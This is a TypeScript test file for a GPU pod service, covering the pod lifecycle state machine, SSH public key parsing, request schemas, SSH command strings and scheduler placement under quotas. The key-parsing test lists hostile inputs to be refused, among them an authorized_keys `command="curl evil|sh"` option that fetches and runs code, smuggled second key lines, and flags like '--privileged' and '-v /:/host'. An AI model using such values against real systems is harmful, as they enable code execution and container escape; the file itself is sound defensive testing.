import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { HOLDING_STATUSES, POD_STATUSES, podActions, podTransition, type PodEvent, type PodStatus } from "@/lib/pods/pod-lifecycle";
import { createPodBody, reportPodStatusBody } from "@/lib/pods/schemas";
import { parseSshPublicKey, podContainerPorts, sshKeyFingerprint } from "@/lib/pods/ssh-key";
import { sshCommand } from "@/lib/pods/queries";
import { place, type FreeNode, type QueuedJob } from "@/lib/scheduler/placement";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxuuJN4z0n9G0mAikmM8JdYo1BeQ0OS3O9GQ9m3mE5W me@laptop";

const events: PodEvent[] = [
  { kind: "placed" },
  { kind: "container_running" },
  { kind: "stop" },
  { kind: "stop_confirmed" },
  { kind: "start" },
  { kind: "terminate" },
  { kind: "lost", restartOnFailure: false },
  { kind: "lost", restartOnFailure: true },
];

describe("the pod state machine", () => {
  it("walks the life the issue describes, and refuses what does not follow", () => {
    const walk: Array<[PodStatus, PodEvent, PodStatus]> = [
      ["pending", { kind: "placed" }, "starting"],
      ["starting", { kind: "container_running" }, "running"],
      ["running", { kind: "stop" }, "stopping"],
      ["stopping", { kind: "stop_confirmed" }, "stopped"],
      ["stopped", { kind: "start" }, "pending"],
      ["running", { kind: "lost", restartOnFailure: false }, "failed"],
      ["running", { kind: "lost", restartOnFailure: true }, "pending"],
      ["failed", { kind: "start" }, "pending"],
      ["pending", { kind: "stop" }, "stopped"],
      ["stopping", { kind: "lost", restartOnFailure: true }, "stopped"],
      ["failed", { kind: "terminate" }, "terminated"],
    ];
    for (const [from, e, to] of walk) expect(podTransition(from, e)).toMatchObject({ ok: true, to });
    expect(podTransition("running", { kind: "start" }).ok).toBe(false);
    expect(podTransition("stopped", { kind: "stop" }).ok).toBe(false);
    expect(podTransition("pending", { kind: "container_running" }).ok).toBe(false);
    expect(podTransition("running", { kind: "container_running" })).toEqual({ ok: true, to: "running", changed: false });
    expect(podActions("running")).toEqual({ stop: true, start: false, terminate: true });
    expect(podActions("terminated")).toEqual({ stop: false, start: false, terminate: false });
  });

  it("terminated is final, only a placement or a running container leads to holding GPUs, and a stop never keeps them", () => {
    fc.assert(
      fc.property(fc.constantFrom(...POD_STATUSES), fc.array(fc.constantFrom(...events), { maxLength: 40 }), (start, seq) => {
        let s = start;
        for (const e of seq) {
          const t = podTransition(s, e);
          if (!t.ok) continue;
          if (s === "terminated") return false;
          if (HOLDING_STATUSES.includes(t.to) && !HOLDING_STATUSES.includes(s) && e.kind !== "placed") return false;
          if ((e.kind === "stop" || e.kind === "terminate") && HOLDING_STATUSES.includes(t.to)) return false;
          s = t.to;
        }
        return true;
      }),
    );
  });
});

describe("what a pod takes at creation", () => {
  it("takes one OpenSSH key line and refuses options, second lines, foreign blobs and control characters", () => {
    expect(parseSshPublicKey(`  ${KEY}  `)).toEqual({ ok: true, key: KEY });
    const hostile = [
      `command="curl evil|sh" ${KEY}`,
      `${KEY}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBBBB other`,
      `${KEY}\rssh-rsa AAAA`,
      "ssh-ed25519 --privileged",
      "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIHxuuJN4z0n9G0mAikmM8JdYo1BeQ0OS3O9GQ9m3mE5W", // an ed25519 blob named rsa
      "ssh-ed25519 AAAA",
      `${KEY} \u0000`,
      "-v /:/host",
      "",
    ];
    for (const k of hostile) expect(parseSshPublicKey(k).ok, JSON.stringify(k)).toBe(false);
    expect(sshKeyFingerprint(KEY)).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it("names each bad field of a create and a report", () => {
    const bad = createPodBody.safeParse({
      name: "Bad Name",
      gpu_type: "H100",
      gpu_count: 0,
      image: "--privileged",
      ports: [22, 22, 70000, "8888"],
      ssh_public_key: "no",
    });
    expect(bad.success).toBe(false);
    const paths = bad.error!.issues.map((i) => i.path.join("."));
    expect(paths).toEqual(expect.arrayContaining(["name", "gpu_count", "image", "ports.2", "ports.3", "ssh_public_key"]));
    expect(
      createPodBody
        .safeParse({ name: "ok", gpu_type: "H100", gpu_count: 1, image: "alpine", ports: [22, 8888, 22] })
        .error!.issues.map((i) => i.path.join(".")),
    ).toEqual(["ports.2"]);
    expect(
      reportPodStatusBody.safeParse({ attempt: 1, fence: "5b0f2f8e-4a8e-4f65-9a52-0d1f3c2b7e11", status: "running" }).error!.issues[0]!
        .path,
    ).toEqual(["ports"]);
    expect(podContainerPorts([8888, 22, 6006], true)).toEqual([22, 6006, 8888]);
    expect(podContainerPorts([8888], false)).toEqual([8888]);
    expect(sshCommand("10.0.0.7", [{ container_port: 22, host_port: 40022 }])).toBe("ssh root@10.0.0.7 -p 40022");
    expect(sshCommand("2001:db8::7", [{ container_port: 22, host_port: 40022 }])).toBe("ssh root@[2001:db8::7] -p 40022");
    expect(sshCommand("10.0.0.7", [{ container_port: 8888, host_port: 48888 }])).toBeNull();
    // the pod's other ports answer the gateway only: the command opens a tunnel to each
    expect(
      sshCommand("10.0.0.7", [
        { container_port: 22, host_port: 40022, access: "ssh" },
        { container_port: 6006, host_port: 46006, access: "gateway" },
        { container_port: 8888, host_port: 48888, access: "gateway" },
      ]),
    ).toBe("ssh root@10.0.0.7 -p 40022 -L 6006:localhost:6006 -L 8888:localhost:8888");
    // a 22 without a key is one of those ports, not SSH
    expect(sshCommand("10.0.0.7", [{ container_port: 22, host_port: 40022, access: "gateway" }])).toBeNull();
  });
});

describe("pods in the scheduler", () => {
  const node = (id: string, free: number): FreeNode => ({
    nodeId: id,
    clusterId: "c",
    gpuType: "H100",
    containers: true,
    freeGpuIds: Array.from({ length: free }, (_, i) => `${id}-g${i}`),
  });
  const pod = (id: string, gpus: number, at = 0): QueuedJob => ({
    id,
    kind: "pod",
    tenantId: "t",
    gpuCount: gpus,
    gpuType: "H100",
    clusterId: null,
    needsContainers: true,
    singleNode: true,
    priority: 5,
    submittedAt: at,
    durationS: null,
    status: "queued",
  });

  it("places a pod on one node or not at all, where a job of the same size would spread", () => {
    const nodes = [node("a", 2), node("b", 2)];
    const tenants = new Map([["t", { quota: 16, inUse: 0 }]]);
    const [d] = place({
      now: 0,
      nodes,
      queue: [pod("p", 3)],
      tenants,
      running: [],
      capacity: [{ gpuType: "H100", clusterId: "c", containers: true, gpus: 4 }],
    });
    expect(d).toMatchObject({ jobId: "p", outcome: "pending" });
    const [j] = place({
      now: 0,
      nodes,
      queue: [{ ...pod("j", 3), kind: "job", singleNode: false }],
      tenants,
      running: [],
      capacity: [{ gpuType: "H100", clusterId: "c", containers: true, gpus: 4 }],
    });
    expect(j).toMatchObject({ outcome: "placed", nodeIds: ["a", "b"] });
  });

  it("never spreads a pod over nodes nor gives a tenant more than its quota", () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 0, max: 8 }), { minLength: 1, maxLength: 6 }),
        fc.array(fc.integer({ min: 1, max: 8 }), { maxLength: 12 }),
        fc.integer({ min: 0, max: 24 }),
        (free, sizes, quota) => {
          const nodes = free.map((f, i) => node(`n${i}`, f));
          const decisions = place({
            now: 0,
            nodes,
            queue: sizes.map((g, i) => pod(`p${i}`, g, i)),
            tenants: new Map([["t", { quota, inUse: 0 }]]),
            running: [],
            capacity: [{ gpuType: "H100", clusterId: "c", containers: true, gpus: free.reduce((s, f) => s + f, 0) }],
          });
          const placed = decisions.filter((d) => d.outcome === "placed");
          const held = placed.reduce((s, d) => s + (d.outcome === "placed" ? d.gpuIds.length : 0), 0);
          const gpus = placed.flatMap((d) => (d.outcome === "placed" ? d.gpuIds : []));
          return (
            placed.every((d) => d.outcome === "placed" && d.nodeIds.length === 1) && held <= quota && new Set(gpus).size === gpus.length
          );
        },
      ),
    );
  });

  it("says pod, not job, when quota holds it back", () => {
    const [d] = place({
      now: 0,
      nodes: [node("a", 8)],
      queue: [pod("p", 2)],
      tenants: new Map([["t", { quota: 1, inUse: 0 }]]),
      running: [],
      capacity: [],
    });
    expect(d).toMatchObject({ outcome: "blocked_quota", reason: expect.stringContaining("this pod needs 2") });
  });
});
